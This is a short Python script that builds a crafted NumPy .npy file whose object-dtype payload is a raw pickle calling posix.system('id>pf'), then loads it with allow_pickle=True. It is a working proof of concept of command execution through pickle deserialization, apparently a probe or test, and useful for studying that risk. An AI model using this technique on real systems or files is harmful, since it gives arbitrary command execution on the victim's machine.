import numpy as np, io
h = b"\x93NUMPY\x01\x00\x46\x00" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(69) + b"\n"
try:
    np.load(io.BytesIO(h + b"cposix\nsystem\n(S'id>pf'\ntR."), allow_pickle=True)
except Exception:
    pass
